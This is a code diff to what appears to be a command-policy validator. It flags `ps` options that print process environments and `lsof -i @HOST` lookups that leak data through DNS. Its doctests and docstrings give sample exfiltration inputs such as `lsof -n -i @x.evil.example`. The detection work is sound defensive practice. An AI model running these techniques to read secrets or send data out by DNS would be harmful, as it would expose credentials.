@@ -489,7 +489,8 @@ def ps_environment(words: Sequence[Word], view: OptionView) -> str | None:
     procps reads `e` as "show the environment" in BSD syntax: in a word without a dash
     (`ps eww`), and also in `-e` once `x` or `t` switches the line to BSD parsing:
     `ps -ex`, `ps -e -x`, `ps -auxe`, `ps -et` all print every process's environment
-    (review G3), while `ps -ef` and `ps -eo …` list all processes. Only ps is checked.
+    (review G3), while `ps -ef` and `ps -eo …` list all processes; BSD's `-E` prints
+    them too (review DR7). lsof looks up no host (`_lsof_host`); nothing else is checked.
 
     >>> from policylang.span import Span
     >>> def run(*values):
@@ -502,6 +503,8 @@ def ps_environment(words: Sequence[Word], view: OptionView) -> str | None:
     >>> run("ps", "eww"), run("pgrep", "-x", "e")
     ('ps BSD option `e` prints environments', None)
     """
+    if words and words[0].value == "lsof":
+        return _lsof_host(words)
     if not words or words[0].value != "ps":
         return None
     dash_e = bsd = skip = False
@@ -518,6 +521,9 @@ def ps_environment(words: Sequence[Word], view: OptionView) -> str | None:
         if text.startswith("--"):
             skip = "=" not in text and text in _PS_LONG_VALUED
         elif text.startswith("-") and len(text) > 1:
+            if "E" in text.partition("=")[0]:
+                # BSD's and macOS's `-E`: every process's environment (review DR7)
+                return "ps -E prints environments"
             dash_e = dash_e or "e" in text
             bsd = bsd or "x" in text or "t" in text
             skip = text[-1] in _PS_VALUED  # its value is the next word
@@ -528,6 +534,37 @@ def ps_environment(words: Sequence[Word], view: OptionView) -> str | None:
     if dash_e and bsd:
         return "ps -e with BSD options prints environments"
     return None
+
+
+def _lsof_host(words: Sequence[Word]) -> str | None:
+    """lsof names no host to look up: an internet address (`-i @HOST:port`) whose host
+    is a name, not a numeric address, is resolved, `-n` or not, and a DNS query for
+    `DATA.evil.example` sends the data out (review DR1).
+
+    >>> from policylang.span import Span
+    >>> def run(*values):
+    ...     return _lsof_host([Word(text=v, value=v, span=Span(0, 0)) for v in values])
+    >>> run("lsof", "-i", ":8080"), run("lsof", "-i", "@127.0.0.1:22"), run("lsof", "-i@[::1]")
+    (None, None, None)
+    >>> run("lsof", "-n", "-i", "@x.evil.example")
+    'lsof looks up the host `x.evil.example` (a DNS query)'
+    """
+    for word in words[1:]:
+        text = word.value
+        if text is None:
+            return "lsof has a non-literal word, which may name a host to look up"
+        host = text.partition("@")[2] if "@" in text else None
+        if host is None:
+            continue
+        host = host[1:].partition("]")[0] if host.startswith("[") else host.partition(":")[0]
+        if host and not _NUMERIC_HOST.fullmatch(host):
+            return f"lsof looks up the host `{host}` (a DNS query)"
+    return None
+
+
+# a numeric address: IPv4, or IPv6 (which lsof takes in brackets; a name of hex letters,
+# `bad.cafe`, is no address)
+_NUMERIC_HOST = re.compile(r"[0-9.]+|[0-9A-Fa-f.]*:[0-9A-Fa-f:.]*")
 
 
 # --------------------------------------------------------------------------- unzip
